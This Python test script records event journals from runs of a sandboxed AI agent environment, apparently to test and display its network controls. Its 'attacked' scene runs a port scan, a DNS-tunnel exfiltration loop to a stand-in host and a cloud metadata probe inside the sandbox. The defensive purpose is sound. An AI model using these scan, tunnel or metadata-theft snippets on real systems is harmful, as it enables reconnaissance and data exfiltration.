"""Records journals of real boots: `python -m tests.journals.record [NAME ...]` (root). Screens are tested and drawn with them.

Times are moved to one beginning, so that a recording differs from the last one in what has changed and little else.
"""

from __future__ import annotations

import json
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

from backend.contract.events import SessionChanged, SessionState
from tests.journals.make import BEGUN
from tests.netns.sandbox import Running, eventually, start
from tests.netns.test_claude import ATTACKS, claude

FOLDER = Path(__file__).parent / "recorded"
REPOSITORY = "https://github.com/example/demo"
LISTED = "github.com\napi.github.com\napi.anthropic.com\nobjects.test\ndocs.test\n"
DAY = 86400.0
SCAN = """
import socket
for n in range(1, 90):
    try: socket.create_connection((f'203.0.113.{n}', 22 + n), 0.2)
    except OSError: pass
"""
TUNNEL = """
import socket
for n in range(40):
    try: socket.getaddrinfo(f'{n:x}7f3a9.exfil.example.net', 443)
    except OSError: pass
"""


def clean(sandbox: Running) -> None:
    """Claude works through its prompt, and the agent fetches a little."""
    eventually("Claude has said what it is", lambda: any(event.model for event in sandbox.events(SessionChanged)))
    for url in ("https://objects.test/bytes/3000000", "https://docs.test/", "http://docs.test/"):
        sandbox.agent("curl", "-sS", "-o", "/dev/null", url)
    eventually("Claude waits", lambda: any(event.state is SessionState.WAITS for event in sandbox.events(SessionChanged)))
    time.sleep(6)  # totals are said every few seconds


def degrades(sandbox: Running) -> None:
    """The repository is not there; later CoreDNS is killed, and comes back."""
    sandbox.root("pkill", "-KILL", "coredns")
    time.sleep(6)
    sandbox.agent("getent", "hosts", "telemetry.example.net")
    time.sleep(3)


def halts(sandbox: Running) -> None:
    """A line of the list cannot be read."""
    time.sleep(1)


def attacked(sandbox: Running) -> None:
    """Everything that the tests try while Claude works, a scan, and a tunnel through names."""
    for command, _ in ATTACKS.values():
        sandbox.agent("sh", "-c", f"cd /tmp; {command}")
    sandbox.agent("/usr/bin/python3", "-c", SCAN)
    sandbox.agent("/usr/bin/python3", "-c", TUNNEL)
    sandbox.agent("curl", "-sS", "-m", "3", "http://169.254.169.254/latest/meta-data/")
    assert sandbox.codetainer("allow", "files.example.org", "--for", "1h").returncode == 0
    time.sleep(6)


SCENES: dict[str, tuple[Callable[[Running], None], str, dict[str, Any]]] = {
    "clean": (clean, LISTED, {"CLAUDE_PROMPT": "look around", "REPO_URL": REPOSITORY}),
    "degrades": (degrades, LISTED, {"REPO_URL": "https://github.com/example/absent"}),
    "halts": (halts, LISTED, {"REPO_URL": REPOSITORY, "CODETAINER_TMPFS_HOME": "900000G"}),
    "attacked": (attacked, LISTED, {"CLAUDE_PROMPT": "look around", "REPO_URL": REPOSITORY}),
}


def moved(value: object, by: float, around: float) -> object:
    """The value with every moment in it (a number within a day of `around`) moved."""
    if isinstance(value, dict):
        return {key: moved(item, by, around) for key, item in value.items()}
    if isinstance(value, list):
        return [moved(item, by, around) for item in value]
    if isinstance(value, int | float) and not isinstance(value, bool) and abs(value - around) < DAY:
        return round(value + by, 3)
    return value


def record(name: str) -> None:
    scene, listed, environment = SCENES[name]
    with tempfile.TemporaryDirectory(prefix="codetainer-record-") as folder:
        sandbox = start(
            Path(folder), f"record-{name}", "--claude", claude(), listed=listed, GH_PAT="ghp_example",
            **environment,
        )  # fmt: skip
        try:
            scene(sandbox)
            lines = [json.loads(line) for line in sandbox.paths.journal.read_text().splitlines()]
        finally:
            sandbox.stop()
    began = lines[0]["at"]
    FOLDER.mkdir(exist_ok=True)
    text = "".join(
        json.dumps(moved(line, BEGUN - began, began), separators=(",", ":"), ensure_ascii=False) + "\n" for line in lines
    )
    (FOLDER / f"{name}.jsonl").write_text(text)


if __name__ == "__main__":
    for wanted in sys.argv[1:] or SCENES:
        record(wanted)
